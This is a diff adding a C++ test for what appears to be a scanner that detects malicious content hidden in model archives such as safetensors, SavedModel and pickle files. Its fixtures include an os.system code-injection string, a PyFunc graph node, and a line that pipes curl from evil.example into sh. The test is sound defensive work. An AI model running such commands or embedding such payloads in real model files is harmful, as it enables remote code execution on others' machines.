@@ -93,6 +93,30 @@ TEST(JudgeArchive, ReadsMembersWhateverTheirNames) {
   }
 }
 
+TEST(JudgeArchive, ReadsMembersWhoseBeginningDoesNotTellTheirFormat) {
+  const auto told = [](const std::string& name, const std::string& content, std::string_view rule) {
+    return found(look(zip({{name, content}}), "models.zip"), rule);
+  };
+  const std::string padding(5000, 'x');
+  const std::string header = R"j({"__metadata__":{"a":"__import__('os').system('id')","pad":")j" + padding + R"j("}})j";
+  EXPECT_TRUE(told("models/m.safetensors", le(header.size(), 8) + header, "metadata-code"));
+  // A SavedModel whose first node is longer than what is looked at: schema, graph, nodes of a name and an operator.
+  const auto field = [](int number, const std::string& bytes) {
+    std::string length;
+    for (std::size_t left = bytes.size(); left > 0 || length.empty(); left >>= 7) {
+      length.push_back(static_cast<char>((left & 0x7F) | (left > 0x7F ? 0x80 : 0)));
+    }
+    return std::string(1, static_cast<char>(number << 3 | 2)) + length + bytes;
+  };
+  const std::string token = field(5, field(1, "token") + field(2, field(2, "x")));
+  const std::string nodes =
+      field(1, field(1, "w" + padding) + field(2, "Const")) + field(1, field(1, "p") + field(2, "PyFunc") + token);
+  const std::string graph = field(1, field(5, "2.1")) + field(2, nodes + field(4, "\x08\x01"s));
+  EXPECT_TRUE(told("export/saved_model.pb", "\x08\x01"s + field(2, graph), "graph-code"));
+  EXPECT_TRUE(told("tool.py", "#!/usr/bin/env python\nimport os\nos.system('curl http://evil.example/a | sh')\n",
+                   "attack-command"));
+}
+
 TEST(JudgeArchive, FindsAPickleBehindOtherBytesInASmallMember) {
   const std::string hidden = "licence\0\0"s + kEvil;
   EXPECT_TRUE(found(look(zip({{"m/data.pkl", kFine}, {"m/licence", hidden}}), "m.pt"), "pickle-dangerous-call"));
